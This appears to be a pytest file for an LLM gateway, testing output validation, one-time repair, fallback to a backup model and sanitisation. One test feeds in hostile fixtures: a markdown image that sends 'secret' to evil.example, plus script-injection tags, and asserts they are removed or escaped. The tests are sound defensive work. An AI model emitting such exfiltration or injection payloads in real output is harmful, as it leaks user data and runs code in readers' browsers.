"""Output is validated, cleaned, and repaired once."""

import asyncio
import re
from typing import Any, Literal

import pytest
from gateway_cases import ASK, SURE, Verdict
from pydantic import BaseModel, Field
from pydantic_ai.messages import ModelResponse, TextPart

from ai_base.llm.errors import (
    AllCandidatesFailedError,
)
from ai_base.testing.doubles import RuleModel, ScriptedModel, Step
from ai_base.testing.faults import (
    FaultyModel,
    invalid_json,
    truncated,
    wrong_schema,
)


class Optionals(BaseModel):
    items: list[str] = []


async def test_output_is_validated(open_gateway: Any) -> None:
    beyond = {"category": "bug", "confidence": 7}
    async with open_gateway(main=ScriptedModel(beyond, SURE)) as gateway:
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert answer.output == Verdict(category="bug", confidence=0.9)
    assert (answer.confidence, answer.calls) == (0.9, 2)


@pytest.mark.parametrize("fault", [invalid_json("{"), wrong_schema()])
async def test_invalid_output_is_repaired_once_and_the_repair_is_paid(open_gateway: Any, fault: Any) -> None:
    inner = ScriptedModel(Step(SURE, expect=re.compile("(?s)That answer cannot be used: .*Answer again")))
    with inner:
        async with open_gateway(main=FaultyModel(inner, fault)) as gateway:
            answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)
            row, attempts = await gateway.ledger.interaction(answer.interaction_id)

    assert answer.calls == 2
    assert row.cost == sum(attempt.cost for attempt in attempts)
    assert attempts[0].cost > 0


async def test_output_that_stays_invalid_goes_to_the_next_candidate(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel("nonsense", "nonsense"), backup=ScriptedModel(SURE)) as gateway:
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert (answer.output.category, answer.calls) == ("bug", 3)


@pytest.mark.parametrize(
    ("reply", "reason"), [("nonsense", "no JSON object found"), ({"kind": "bug", "sure": 0.9}, "confidence")]
)
async def test_output_that_nobody_gets_right_is_an_error(open_gateway: Any, reply: Any, reason: str) -> None:
    bad = RuleModel({"(?s).*": reply})
    async with open_gateway(main=bad, backup=bad) as gateway:
        with pytest.raises(AllCandidatesFailedError, match=reason):
            await gateway.ask("triage", {"question": "?"}, output_type=Verdict)


async def test_output_is_cleaned(open_gateway: Any) -> None:
    hostile = "![x](https://evil.example/?q=secret)\x07<script>alert(1)</script>"
    model = ScriptedModel(hostile, {"category": hostile, "confidence": 1})
    async with open_gateway(main=model) as gateway:
        text = await gateway.ask(*ASK)
        verdict = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    for output in (text.output, verdict.output.category):
        assert "![" not in output
        assert "<script" not in output
        assert "\x07" not in output


async def test_an_empty_answer_is_no_answer(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(" ", "\n"), backup=ScriptedModel("here")) as gateway:
        assert (await gateway.ask(*ASK)).output == "here"


@pytest.mark.parametrize(
    ("output_type", "reply", "output"),
    [
        (list[int], {"response": [1, 2]}, [1, 2]),
        (list[int], "[1, 2]", [1, 2]),
        (int, "42", 42),
        (bool, {"response": True}, True),
        (int | Verdict, {"response": SURE}, Verdict(category="bug", confidence=0.9)),
        (Literal["bug", "billing"], '"bug"', "bug"),
        (dict[str, int], {"response": {"a": 1}}, {"a": 1}),
        (list[int] | str, '"[1, 2]"', "[1, 2]"),
    ],
)
async def test_an_output_may_have_any_type_that_pydantic_validates(
    open_gateway: Any, output_type: Any, reply: Any, output: Any
) -> None:
    model = ScriptedModel(reply)
    async with open_gateway(main=model, cache={"fresh": 60}) as gateway:
        answers = [await gateway.ask(*ASK, output_type=output_type) for _ in range(2)]

    assert [(answer.output, answer.source) for answer in answers] == [(output, "model"), (output, "cache")]


async def test_an_output_of_another_type_is_refused(open_gateway: Any) -> None:
    async with open_gateway(main=RuleModel({"(?s).*": '{"response": ["x"]}'})) as gateway:
        with pytest.raises(AllCandidatesFailedError, match="valid integer"):
            await gateway.ask(*ASK, output_type=list[int])


async def test_a_type_that_pydantic_cannot_validate_is_an_error(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel()) as gateway:
        with pytest.raises(TypeError, match="output_type must be str or a type that Pydantic validates"):
            await gateway.ask(*ASK, output_type=asyncio.Event)


@pytest.mark.parametrize(
    ("output_type", "whole"),
    [(str, "whole"), (Optionals, '{"items": ["whole"]}'), (list[str], '{"response": ["whole"]}')],
)
async def test_a_reply_that_was_cut_off_is_no_answer_and_the_next_candidate_gives_one(
    open_gateway: Any, output_type: Any, whole: str
) -> None:
    main = FaultyModel(ScriptedModel(), truncated('{"items": ["one", "tw'))
    async with open_gateway(main=main, backup=ScriptedModel(whole)) as gateway:
        answer = await gateway.ask(*ASK, output_type=output_type)

    assert (answer.model, answer.calls) == ("scripted", 2)  # no repair: it would be cut off as well


async def test_a_reply_that_was_cut_off_is_never_cached(open_gateway: Any) -> None:
    cut = truncated("The answer is")
    main = FaultyModel(ScriptedModel(), cut, cut, forever=True)
    async with open_gateway(main=main, backup=FaultyModel(ScriptedModel(), cut, forever=True)) as gateway:
        for _ in range(2):
            with pytest.raises(AllCandidatesFailedError, match="cut off at the output limit"):
                await gateway.ask(*ASK)


class Hidden(BaseModel):
    category: str
    aside: str = Field(exclude=True)


async def test_a_field_that_is_left_out_of_dumps_is_cleaned_as_well(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel({"category": "bug", "aside": "<script>alert(1)</script>"})) as gateway:
        answer = await gateway.ask(*ASK, output_type=Hidden)

    assert answer.output.aside == "&lt;script>alert(1)&lt;/script>"


async def test_what_was_repaired_is_on_the_answer_and_in_the_ledger(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel("{'category': 'bug', 'confidence': 0.9,}", SURE)) as gateway:
        repaired = await gateway.ask(*ASK, output_type=Verdict)
        plain = await gateway.ask(*ASK, output_type=Verdict)
        row, _ = await gateway.ledger.interaction(repaired.interaction_id)

    assert len(repaired.repairs) == 2
    assert row.repairs == "; ".join(repaired.repairs)
    assert plain.repairs == ()


async def test_a_reply_without_its_end_is_asked_for_again(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel('{"items": ["one"', '{"items": ["one", "two"]}')) as gateway:
        answer = await gateway.ask(*ASK, output_type=Optionals)

    assert (answer.output.items, answer.calls) == (["one", "two"], 2)


async def test_strict_output_refuses_a_reply_that_needs_repair(open_gateway: Any) -> None:
    model = ScriptedModel("{'category': 'bug', 'confidence': 0.9}", SURE)
    async with open_gateway(main=model, output={"strict": True}) as gateway:
        answer = await gateway.ask(*ASK, output_type=Verdict)

    assert (answer.calls, answer.repairs) == (2, ())


async def test_a_reply_that_a_content_filter_cut_off_is_no_answer(open_gateway: Any) -> None:
    filtered = ModelResponse([TextPart("The beginning")], finish_reason="content_filter")
    async with open_gateway(main=ScriptedModel(filtered), backup=ScriptedModel("whole")) as gateway:
        answer = await gateway.ask(*ASK)

    assert (answer.output, answer.calls) == ("whole", 2)
